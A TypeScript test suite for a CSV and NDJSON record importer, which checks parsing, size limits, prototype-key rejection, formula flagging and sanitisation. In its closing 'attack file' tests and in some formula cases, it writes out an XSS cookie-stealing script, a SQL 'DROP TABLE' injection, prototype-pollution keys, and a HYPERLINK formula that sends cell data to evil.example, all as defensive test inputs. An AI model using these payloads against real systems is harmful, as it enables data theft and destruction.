import fc from "fast-check";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { ProblemError } from "../errors/goggles-error.js";
import type { GogglesEvent } from "../events.js";
import { conflict } from "../problem.js";
import { escapeHtml } from "../sanitize/encode.js";
import { normalizeText } from "../sanitize/normalize-text.js";
import type { StandardSchemaV1 } from "../validate/standard-schema.js";
import { type ImportOutcome, type ImportSummary, importRecords } from "./import-records.js";

/** A hand-written Standard Schema v1 validator: an object whose listed fields match their patterns. */
function objectOf<K extends string>(
  shape: Record<K, RegExp>,
  options: { async?: boolean } = {},
): StandardSchemaV1<unknown, Record<K, string>> {
  const validate = (value: unknown): StandardSchemaV1.Result<Record<K, string>> => {
    if (typeof value !== "object" || value === null) return { issues: [{ message: "Expected an object." }] };
    const issues: { message: string; path: PropertyKey[] }[] = [];
    const out = {} as Record<K, string>;
    for (const key of Object.keys(shape) as K[]) {
      const v = (value as Record<string, unknown>)[key];
      if (typeof v !== "string" || !shape[key].test(v))
        issues.push({ message: "Invalid value.", path: [key] });
      else out[key] = v;
    }
    return issues.length > 0 ? { issues } : { value: out };
  };
  return {
    "~standard": {
      version: 1,
      vendor: "test",
      validate: options.async ? (v) => Promise.resolve(validate(v)) : validate,
    },
  };
}

async function run<T>(imported: AsyncIterable<ImportOutcome<T>> & { summary: Promise<ImportSummary> }) {
  const outcomes: ImportOutcome<T>[] = [];
  for await (const outcome of imported) outcomes.push(outcome);
  return { outcomes, summary: await imported.summary };
}

const bytesOf = (text: string) => new TextEncoder().encode(text);

async function* chunked(bytes: Uint8Array, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < bytes.length; i += size) yield bytes.slice(i, i + size);
}

describe("importRecords: CSV", () => {
  it("maps the header to field names and yields one outcome per row, in order", async () => {
    const { outcomes, summary } = await run(
      importRecords("name,age\r\nAda,36\r\nBob\r\nCy,7,x\r\n", { format: "csv", formulas: "allow" }),
    );
    expect(outcomes.map((o) => [o.line, o.record ?? o.problem?.extensions?.reason])).toEqual([
      [2, { name: "Ada", age: "36" }],
      [3, "column_count"],
      [4, "column_count"],
    ]);
    expect(outcomes[1]?.problem?.status).toBe(400);
    expect(summary).toMatchObject({ rows: 3, accepted: 1, rejected: 2, complete: true });
    expect(summary.problems.map((p) => p.line)).toEqual([3, 4]);
  });

  it("reads a ReadableStream, skips the UTF-8 BOM, and decodes characters split across chunks", async () => {
    const bytes = bytesOf("\uFEFFcity\nZürich\n東京\n");
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < bytes.length; i++) controller.enqueue(bytes.slice(i, i + 1));
        controller.close();
      },
    });
    const { records, summary } = await importRecords(stream, { format: "csv" }).collect();
    expect(records).toEqual([{ city: "Zürich" }, { city: "東京" }]);
    expect(summary.bytes).toBe(bytes.length);
  });

  it("runs rows through normalize, the schema (sync or async), sanitize and the adapter", async () => {
    const schema = objectOf({ name: /^\p{L}+$/u }, { async: true });
    const adapter: StandardSchemaV1<unknown, { displayName: string }> = {
      "~standard": {
        version: 1,
        vendor: "test",
        validate: (v) => ({ value: { displayName: (v as { name: string }).name } }),
      },
    };
    const { outcomes, summary } = await run(
      importRecords("name\n  ada \nb0b\n", {
        format: "csv",
        schema,
        adapter,
        normalize: (s) => s.trim(),
        sanitize: (row) => ({ ...row, name: row.name.toUpperCase() }),
      }),
    );
    expect(outcomes[0]).toEqual({ ok: true, line: 2, record: { displayName: "ADA" } });
    expect(outcomes[1]?.problem).toMatchObject({
      status: 422,
      extensions: { line: 3, issues: [{ path: "name", message: "Invalid value." }] },
    });
    expect(JSON.stringify(outcomes[1]?.problem)).not.toContain("b0b");
    expect(summary).toMatchObject({ rows: 2, accepted: 1, rejected: 1 });
  });

  it("rejects a row whose adapter or sanitize throws a ProblemError; any other throw ends the iteration", async () => {
    const { outcomes, summary } = await run(
      importRecords("id\n1\n2\n", {
        format: "csv",
        sanitize: (row) => {
          if (row.id === "2") throw new ProblemError(conflict({ detail: "Already imported." }));
          return row;
        },
      }),
    );
    expect(outcomes.map((o) => (o.ok ? "ok" : o.problem.status))).toEqual(["ok", 409]);
    expect(outcomes[1]?.problem?.extensions?.line).toBe(3);
    expect(summary).toMatchObject({ accepted: 1, rejected: 1, complete: true });

    const buggy = importRecords("id\n1\n", {
      format: "csv",
      adapter: {
        "~standard": {
          version: 1,
          vendor: "test",
          validate: () => Promise.reject(new TypeError("bug")),
        },
      },
    });
    await expect(buggy.collect()).rejects.toThrow("bug");
    expect(await buggy.summary).toMatchObject({ rows: 1, complete: false });
  });

  it("flags formula cells by default, rejects them on request, and allows them when told", async () => {
    const csv = "a,b\n=1+2,x\n-5,+3\n@SUM(A1),\tcmd\n";
    const flagged = await run(importRecords(csv, { format: "csv", normalize: false }));
    expect(flagged.outcomes.map((o) => o.formulas)).toEqual([["a"], undefined, ["a", "b"]]);
    // By default cells are normalized first: normalizeText trims the tab, and "cmd" is no formula.
    const normalized = await run(importRecords(csv, { format: "csv" }));
    expect(normalized.outcomes.map((o) => o.formulas)).toEqual([["a"], undefined, ["a"]]);
    const rejected = await run(importRecords(csv, { format: "csv", formulas: "reject", normalize: false }));
    expect(rejected.outcomes.map((o) => o.problem?.extensions?.reason ?? "ok")).toEqual([
      "formula",
      "ok",
      "formula",
    ]);
    const allowed = await run(importRecords(csv, { format: "csv", formulas: "allow" }));
    expect(allowed.summary.accepted).toBe(3);
    expect(allowed.outcomes.every((o) => o.formulas === undefined)).toBe(true);
    // The check sees the normalized cell: trimming " =1" uncovers the formula.
    const trimmed = await run(importRecords("a\n =1\n", { format: "csv", normalize: (s) => s.trim() }));
    expect(trimmed.outcomes[0]?.formulas).toEqual(["a"]);
  });

  it("ends the import on a broken header", async () => {
    for (const header of ["a,a\n1,2\n", "a,,b\n", "__proto__\nx\n", 'a"b\n']) {
      const { outcomes, summary } = await run(importRecords(header, { format: "csv" }));
      expect(outcomes).toHaveLength(1);
      expect(outcomes[0]).toMatchObject({ line: 1, fatal: true, problem: { status: 400 } });
      expect(summary.complete).toBe(false);
    }
  });

  it("ends the import when a limit breaks: bytes, rows, columns, field size (413)", async () => {
    const cases = [
      // A string is measured up front; a stream as it arrives (rows before the limit are already out).
      { csv: "a\n1\n2\n", limits: { maxBytes: 5 }, reason: "max_bytes", accepted: undefined },
      { csv: "a\n1\n2\n3\n", limits: { maxRows: 2 }, reason: "max_rows", accepted: 2 },
      { csv: "a,b,c\n1,2,3\n", limits: { maxColumns: 2 }, reason: "max_columns", accepted: 0 },
      { csv: "a\n1\n12345\n", limits: { maxFieldBytes: 4 }, reason: "max_field_bytes", accepted: 1 },
    ];
    for (const c of cases) {
      for (const source of [c.csv, chunked(bytesOf(c.csv), 2)]) {
        const { outcomes, summary } = await run(importRecords(source, { format: "csv", limits: c.limits }));
        const last = outcomes.at(-1);
        expect(last).toMatchObject({
          fatal: true,
          problem: { status: 413, extensions: { reason: c.reason } },
        });
        expect(summary).toMatchObject({ complete: false, problem: last?.problem });
        if (c.accepted !== undefined) expect(summary.accepted).toBe(c.accepted);
      }
    }
  });

  it("keeps going past bad rows until maxErrors, then ends with 422", async () => {
    const csv = `a,b\n${["1", "2,2", "3", "4", "5,5"].join("\n")}\n`;
    const events: GogglesEvent[] = [];
    const { outcomes, summary } = await run(
      importRecords(csv, {
        format: "csv",
        limits: { maxErrors: 3 },
        keepProblems: 2,
        onEvent: (e) => events.push(e),
      }),
    );
    expect(outcomes.map((o) => (o.fatal ? "fatal" : o.problem ? "bad" : "ok"))).toEqual([
      "bad",
      "ok",
      "bad",
      "bad",
      "fatal",
    ]);
    expect(outcomes.at(-1)?.problem?.status).toBe(422);
    expect(summary).toMatchObject({ rows: 4, accepted: 1, rejected: 3, complete: false });
    expect(summary.problems).toHaveLength(2);
    expect(events).toEqual([
      { type: "import_row_rejected", line: 2, issueCount: 1 },
      { type: "import_row_rejected", line: 4, issueCount: 1 },
      { type: "import_row_rejected", line: 5, issueCount: 1 },
    ]);
  });

  it("ends with 400 on bytes that are not UTF-8, and with the source's problem when reading fails", async () => {
    const bad = new Uint8Array([...bytesOf("a\n1\n"), 0xff, 0x0a]);
    const { outcomes } = await run(importRecords(chunked(bad, 4), { format: "csv" }));
    expect(outcomes.map((o) => o.record ?? o.problem?.extensions?.reason)).toEqual([{ a: "1" }, "encoding"]);
    async function* broken(): AsyncGenerator<Uint8Array> {
      yield bytesOf("a\n1\n");
      throw new Error("socket hang up: secret internals");
    }
    const failed = await run(importRecords(broken(), { format: "csv" }));
    expect(failed.outcomes.at(-1)?.problem).toMatchObject({
      status: 400,
      extensions: { reason: "read_failed" },
    });
    expect(JSON.stringify(failed.outcomes)).not.toContain("secret");
  });

  it("settles the summary when the consumer stops early, and can be iterated only once", async () => {
    const imported = importRecords("a\n1\n2\n3\n", { format: "csv" });
    for await (const outcome of imported) {
      expect(outcome.line).toBe(2);
      break;
    }
    expect(await imported.summary).toMatchObject({ rows: 1, complete: false });
    expect(() => imported[Symbol.asyncIterator]()).toThrow(TypeError);
  });

  it("cancels a ReadableStream source when the consumer stops early", async () => {
    let cancelled = false;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        controller.enqueue(bytesOf("a\n1\n2\n"));
      },
      cancel() {
        cancelled = true;
      },
    });
    for await (const outcome of importRecords(stream, { format: "csv", limits: { maxRows: 1e9 } })) {
      if (outcome.line > 3) break;
    }
    expect(cancelled).toBe(true);
  });

  it("answers next() calls made without waiting in order, sync and async schemas alike", async () => {
    for (const async of [false, true]) {
      const imported = importRecords('{"n":"a"}\n{"n":"B"}\n{"n":"c"}\n', {
        format: "ndjson",
        schema: objectOf({ n: /^[a-z]$/ }, { async }),
      });
      const iterator = imported[Symbol.asyncIterator]();
      const results = await Promise.all([1, 2, 3, 4, 5].map(() => iterator.next()));
      expect(results.map((r) => (r.done ? "done" : `${r.value.line} ${r.value.ok}`))).toEqual([
        "1 true",
        "2 false",
        "3 true",
        "done",
        "done",
      ]);
      expect(await imported.summary).toMatchObject({ rows: 3, accepted: 2, rejected: 1, complete: true });
    }
  });

  it("on arbitrary bytes never throws and gives every row exactly one outcome (fast-check)", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ maxLength: 200 }),
        fc.integer({ min: 1, max: 16 }),
        fc.constantFrom<"csv" | "ndjson">("csv", "ndjson"),
        async (bytes, size, format) => {
          const noisy = bytes.map(
            (b) => [0x2c, 0x22, 0x0a, 0x0d, 0x61, 0x7b, 0x7d, 0x3d, b][b % 9] as number,
          );
          const { outcomes, summary } = await run(
            importRecords(chunked(noisy, size), {
              format,
              limits: { maxFieldBytes: 32, maxErrors: 1000, maxColumns: 8 },
            }),
          );
          const rows = outcomes.filter((o) => !o.fatal);
          expect(rows).toHaveLength(summary.rows);
          expect(summary.accepted + summary.rejected).toBe(summary.rows);
          for (let k = 1; k < rows.length; k++)
            expect(rows[k]?.line).toBeGreaterThan(rows[k - 1]?.line as number);
          for (const o of rows) expect((o.record === undefined) !== (o.problem === undefined)).toBe(true);
          const fatal = outcomes.filter((o) => o.fatal);
          expect(fatal.length).toBeLessThanOrEqual(1);
          if (fatal.length === 1) expect(outcomes.at(-1)).toBe(fatal[0]);
          expect(summary.complete).toBe(fatal.length === 0);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe("importRecords: NDJSON", () => {
  it("reads one JSON value per line across chunks, skipping blank lines", async () => {
    const text = '{"a":1}\r\n\n  \n{"a":"ü"}\n[1,2]';
    const { outcomes, summary } = await run(importRecords(chunked(bytesOf(text), 3), { format: "ndjson" }));
    expect(outcomes).toEqual([
      { ok: true, line: 1, record: { a: 1 } },
      { ok: true, line: 4, record: { a: "ü" } },
      { ok: true, line: 5, record: [1, 2] },
    ]);
    expect(summary).toMatchObject({ rows: 3, accepted: 3, complete: true });
  });

  it("rejects lines that are not JSON or carry prototype keys, without stopping", async () => {
    const text =
      '{"a":1}\n{nope\n{"\\u005f_proto__":{"admin":true}}\n{"constructor":{"prototype":{}}}\n{"constructor":"ok"}\n';
    const { outcomes } = await run(importRecords(text, { format: "ndjson" }));
    expect(
      outcomes.map((o) => (o.ok ? "ok" : `${o.problem.status} line ${o.problem.extensions?.line}`)),
    ).toEqual(["ok", "400 line 2", "400 line 3", "400 line 4", "ok"]);
  });

  it("normalizes strings, flags formula strings by path, and validates", async () => {
    const schema = objectOf({ name: /^[a-z]+$/ });
    const { outcomes } = await run(
      importRecords('{"name":" ada ","tags":["=cmd"]}\n{"name":"X"}\n', {
        format: "ndjson",
        normalize: (s) => s.trim(),
        schema,
      }),
    );
    expect(outcomes[0]).toEqual({ ok: true, line: 1, record: { name: "ada" }, formulas: ["tags.0"] });
    expect(outcomes[1]?.problem?.status).toBe(422);
  });

  it("lists nested formula paths in document order, rejects on the first, and normalizes nested strings", async () => {
    const text = '{"a":{"x":"=1","y":[" ok ","@2"]},"b":"-x","c":"\u202e fine "}\n"=root"\n';
    const flagged = await run(importRecords(text, { format: "ndjson" }));
    expect(flagged.outcomes).toEqual([
      {
        ok: true,
        line: 1,
        record: { a: { x: "=1", y: ["ok", "@2"] }, b: "-x", c: "fine" },
        formulas: ["a.x", "a.y.1", "b"],
      },
      { ok: true, line: 2, record: "=root", formulas: [""] },
    ]);
    const rejected = await run(importRecords(text, { format: "ndjson", formulas: "reject" }));
    expect(rejected.outcomes.map((o) => o.problem?.extensions?.column)).toEqual(["path a.x", "the root"]);
  });

  it("normalizes by default exactly as normalizeText does (fast-check)", async () => {
    const text = fc.oneof(fc.string({ maxLength: 12 }), fc.string({ unit: "binary", maxLength: 12 }));
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 8 }), async (strings) => {
        const line = `${JSON.stringify(strings)}\n`;
        const byDefault = await importRecords(line, { format: "ndjson", formulas: "allow" }).collect();
        expect(byDefault.records).toEqual([strings.map((s) => normalizeText(s))]);
      }),
      { numRuns: 300 },
    );
  });

  it("ends with 413 when a line exceeds maxFieldBytes", async () => {
    const { outcomes } = await run(
      importRecords(chunked(bytesOf('{"a":1}\n{"a":"0123456789"}\n'), 2), {
        format: "ndjson",
        limits: { maxFieldBytes: 12 },
      }),
    );
    expect(outcomes.map((o) => o.record ?? o.problem?.extensions?.reason)).toEqual([
      { a: 1 },
      "max_field_bytes",
    ]);
  });
});

describe("the seed's attack file", () => {
  it("rejects the XSS, SQL-injection and formula rows and keeps the good rows intact", async () => {
    const attack = [
      "name,city,note",
      'Ada Lovelace,London,"Likes maths, and ""engines"""',
      "<script>alert(document.cookie)</script>,Paris,hi",
      "'; DROP TABLE families; --,Rome,hi",
      'Grace Hopper,"Arlington, VA","line one',
      'line two"',
      '"=HYPERLINK(""http://evil.example/?""&A1)",Oslo,click',
      "Alan Turing,Wilmslow,",
    ].join("\r\n");
    const Family = objectOf({
      name: /^[\p{L} .'-]{1,80}$/u,
      city: /^[\p{L} ,.'-]{1,80}$/u,
      note: /^[^<>]*$/,
    });
    const { records, summary } = await importRecords(attack, {
      format: "csv",
      schema: Family,
      formulas: "reject",
    }).collect();
    expect(records).toEqual([
      { name: "Ada Lovelace", city: "London", note: 'Likes maths, and "engines"' },
      // normalizeText (the default) turns CRLF inside a field into LF.
      { name: "Grace Hopper", city: "Arlington, VA", note: "line one\nline two" },
      { name: "Alan Turing", city: "Wilmslow", note: "" },
    ]);
    expect(summary).toMatchObject({ rows: 6, accepted: 3, rejected: 3, complete: true });
    expect(summary.problems.map((p) => [p.line, p.problem.status])).toEqual([
      [3, 422],
      [4, 422],
      [7, 422],
    ]);
    // Problems never echo the offending input.
    expect(JSON.stringify(summary.problems)).not.toMatch(/script|DROP|HYPERLINK/);
  });

  it("with a permissive schema, sanitize rules (escapeHtml) neutralize the same rows", async () => {
    const attack = [
      "name,note",
      "Ada Lovelace,hello",
      "<script>alert(document.cookie)</script>,hi",
      "'; DROP TABLE families; --,hi",
      '"=HYPERLINK(""http://evil.example"")",x',
    ].join("\n");
    const { records, summary } = await importRecords(attack, {
      format: "csv",
      schema: z.object({ name: z.string().min(1).max(80), note: z.string() }),
      sanitize: { name: escapeHtml, note: escapeHtml },
    }).collect();
    expect(records).toEqual([
      { name: "Ada Lovelace", note: "hello" },
      { name: "&lt;script&gt;alert(document.cookie)&lt;/script&gt;", note: "hi" },
      // Stored as data (queries are parameterized); escaped for HTML output.
      { name: "&#39;; DROP TABLE families; --", note: "hi" },
      { name: "=HYPERLINK(&quot;http://evil.example&quot;)", note: "x" },
    ]);
    expect(summary).toMatchObject({ rows: 4, accepted: 4, complete: true });
  });
});
